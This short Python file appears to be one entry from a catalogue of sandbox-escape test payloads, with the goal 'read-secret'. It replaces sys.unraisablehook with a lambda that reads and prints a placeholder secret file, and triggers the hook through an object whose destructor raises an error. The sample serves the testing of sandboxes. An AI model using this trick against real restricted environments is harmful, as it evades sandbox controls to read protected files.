# technique: sys.unraisablehook is called from C
# goal: read-secret
# source: time bombs
import sys


class Bomb:
    def __del__(self):
        1 / 0


sys.unraisablehook = lambda info, get=open, say=print: say(get('@SECRET@').read(), flush=True)
Bomb()
